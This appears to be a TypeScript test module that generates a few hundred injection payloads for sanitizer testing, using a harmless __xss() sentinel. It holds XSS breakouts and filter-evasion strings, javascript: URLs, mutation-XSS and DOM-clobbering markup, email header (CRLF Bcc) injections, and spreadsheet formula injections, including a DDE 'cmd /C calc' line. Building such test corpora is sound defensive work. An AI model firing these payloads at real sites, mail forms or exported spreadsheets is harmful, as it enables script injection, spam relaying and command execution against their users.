/** What a text calls that has become code. Where nothing of the name is there, the call is an error of the page instead. */
export const SENTINEL = '__xss';
const CALL = `${SENTINEL}()`;

/** Elements that run something by themselves, without anybody's press: tag, attributes, event. */
const ELEMENTS: readonly (readonly [tag: string, attributes: string, event: string])[] = [
  ['img', 'src=x', 'onerror'],
  ['image', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['iframe', '', 'onload'],
  ['input', 'autofocus', 'onfocus'],
  ['input', 'type=image src=x', 'onerror'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['b', 'tabindex=1 autofocus', 'onfocus'],
  ['x', 'contenteditable autofocus', 'onfocus'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['details', 'open', 'ontoggle'],
  ['marquee', '', 'onstart'],
  ['object', 'data=x', 'onerror'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['script', 'src=x', 'onerror'],
  ['style', '', 'onload'],
  ['p', 'style=animation-name:x', 'onanimationstart'],
  ['frameset', '', 'onload'],
];

/** The same attribute as parsers take it: bare, quoted in each way, after a slash, in other letters, with entities. */
const SHAPES: readonly ((tag: string, attributes: string, event: string) => string)[] = [
  (tag, attributes, event) => `<${tag} ${attributes} ${event}=${CALL}>`,
  (tag, attributes, event) => `<${tag} ${attributes} ${event}="${CALL}">`,
  (tag, attributes, event) => `<${tag}/${attributes.replace(/ /g, '/')}/${event}='${CALL}'//`,
  (tag, attributes, event) => `<${mixed(tag)} ${attributes} ${mixed(event)} = &#95;&#x5f;xss&lpar;&rpar;>`,
];

const mixed = (text: string): string =>
  text.replace(/./g, (it, at: number) => (at % 2 ? it.toUpperCase() : it));

/** What ends the place a text stands in: an attribute, an element of raw text, a comment, a string of a script. */
const ENDS = [
  ...[
    '"',
    "'",
    '`',
    '">',
    "'>",
    '-->',
    '--!>',
    ']]>',
    '*/',
    '}}',
    '\\"',
    '\\u0022',
    "\\'",
    '%22%3E',
    '&quot;>',
  ],
  ...['</script>', '</script\n>', '</title>', '</textarea>', '</style>', '</noscript>', '</template>'],
  ...['</iframe>', '</xmp>', '</select>', '</svg>', '</math>', '</a>', '<!-->', '<?xml>', '<![CDATA['],
];
const BROKEN_OUT = ENDS.flatMap((end) => [
  `${end}<img src=x onerror=${CALL}>`,
  `${end}<script>${CALL}</script>`,
]);

/** Within a tag that stands already, or a string of a script. */
const WITHIN = [
  ...[`" autofocus onfocus=${CALL} x="`, `' autofocus onfocus=${CALL} x='`, `x onerror=${CALL} y`],
  ...[`" style="animation-name:x" onanimationstart="${CALL}`, `"onload="${CALL}`, `\`onload=${CALL}`],
  ...[`'-${CALL}-'`, `"-${CALL}-"`, `\${${CALL}}`, `{{constructor.constructor('${CALL}')()}}`, `';${CALL}//`],
  ...[`";${CALL}//`, `\\';${CALL}//`, `\u2028${CALL}//`, `</script><script>${CALL}//`, `<%= ${CALL} %>`],
  ...[`#{${CALL}}`, `{%raw%}${CALL}`, `[[${CALL}]]`, `@{${CALL}}`, `{"__proto__":{"innerHTML":"${CALL}"}}`],
];

/** Addresses that are a script, as parsers of addresses take them. */
const ADDRESSES = [
  ...[`javascript:${CALL}`, `JaVaScRiPt:${CALL}`, ` javascript:${CALL}`, `java\tscript:${CALL}`],
  ...[
    `java\nscript:${CALL}`,
    `javascript&colon;${CALL}`,
    `java&Tab;script:${CALL}`,
    `&#106;avascript:${CALL}`,
  ],
  ...[`&#x6A&#x61&#x76&#x61script:${CALL}`, `javascript://%0a${CALL}`, `javascript:/*--></title>*/${CALL}`],
  ...[`data:text/html,<script>parent.${CALL}</script>`, `vbscript:${CALL}`, `javascript%3A${CALL}`],
];
/** Where an address is followed, in HTML and in the notations that become HTML. */
const FOLLOWED: readonly ((address: string) => string)[] = [
  (it) => `<iframe src="${it}"></iframe>`,
  (it) => `<a href="${it}">x</a>`,
  (it) => `<form action="${it}"><button>x</button></form>`,
  (it) => `<object data="${it}"></object>`,
  (it) => `<svg><a xlink:href="${it}"><text>x</text></a></svg>`,
  (it) => `<meta http-equiv=refresh content="0;url=${it}">`,
  (it) => `[x](${it})`,
  (it) => `![x](${it})`,
  (it) => `<${it}>`,
  (it) => it,
];

/** Text that a cleaner takes for harmless and a parser, the second time, for something else (mutation XSS). */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${CALL}></style>`,
  `<svg></p><style><a id="</style><img src=x onerror=${CALL}>">`,
  `<svg><style>&lt;img src=x onerror=${CALL}&gt;</style></svg>`,
  `<svg><script>&#95;&#95;xss()</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributeName=x>`,
  `<svg><foreignObject><iframe onload=${CALL}></iframe></foreignObject></svg>`,
  `<svg><desc><img src=x onerror=${CALL}></desc></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<select><style></select><img src=x onerror=${CALL}></style>`,
  `<table><td background="javascript:${CALL}">`,
  `<template><script>${CALL}</script></template><img src=x onerror=${CALL}>`,
  `<textarea><img title="</textarea><img src=x onerror=${CALL}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<iframe srcdoc="<img src=x onerror=parent.${CALL}>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${CALL}&lt;/script&gt;"></iframe>`,
  `<img src="\`\`onerror=${CALL}//">`,
  `<<script>${CALL}//<</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script\t>${CALL}</script>`,
  `<script>${CALL}`,
  `<script type=module>${CALL}</script>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
  `<style>@import "javascript:${CALL}";</style>`,
  `<p style="background:url(javascript:${CALL});width:expression(${CALL})">`,
  `\u00bcscript\u00be${CALL}\u00bc/script\u00be`,
  `＜img src=x onerror=${CALL}＞`,
  `%3Cimg src=x onerror=${CALL}%3E`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `\\x3cimg src=x onerror=${CALL}\\x3e`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
];

/** Elements whose names take the place of what a page's own script asks for (DOM clobbering), and addresses turned elsewhere. */
const CLOBBERING = [
  ...[
    '<form id=body><input name=children>',
    '<img name=cookie>',
    '<a id=talka-data href=x:y>',
    '<form name=body>',
  ],
  ...[
    '<img name=getElementById>',
    '<script id=talka-data type=application/json>{}</script>',
    '<div id=root></div>',
  ],
  ...[
    '<base href="//elsewhere.example/">',
    '<form id=__proto__><output name=innerHTML>',
    '<object name=document>',
  ],
  ...[
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    '<plaintext>',
    '<a id=location href=x:y>',
  ],
];

/**
 * Texts that become code where a text is not kept one: well over 250, each of them one line and shorter than 130
 * characters. Gathered by how a parser is deceived, not by where it was found.
 */
export const SCRIPTS: readonly string[] = [
  ...new Set(
    [
      ...ELEMENTS.flatMap((parts) => SHAPES.map((shape) => shape(...parts))),
      ...BROKEN_OUT,
      ...WITHIN,
      ...ADDRESSES.flatMap((address) => FOLLOWED.map((follow) => follow(address))),
      ...MUTATIONS,
      ...CLOBBERING,
    ].map((it) => it.replace(/ {2,}/g, ' ')),
  ),
];

/** Heads of mails that a title, a name or a subject might bring along, were it taken for more than one line. */
export const HEADERS: readonly string[] = [
  ...['\r\nBcc: all@elsewhere.example', '\nBcc: all@elsewhere.example', '\rBcc: all@elsewhere.example'],
  ...['\r\n\r\n<h1>x</h1>', '\r\n.\r\nMAIL FROM:<x@elsewhere.example>', '\u2028Bcc: x', '\u2029Bcc: x'],
  ...[
    '%0d%0aBcc: x',
    '=?utf-8?Q?=0d=0aBcc:_x?=',
    '\u0000Bcc: x',
    '\u0085Bcc: x',
    '"x" <x@elsewhere.example>,',
  ],
];

/** What a spreadsheet takes for a formula. */
export const FORMULAS: readonly string[] = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)'],
  ...[`=HYPERLINK("//elsewhere.example","x")`, `=cmd|' /C calc'!A0`, `";=1+1`, `",=1+1`, `=IMPORTXML(A1)`],
];
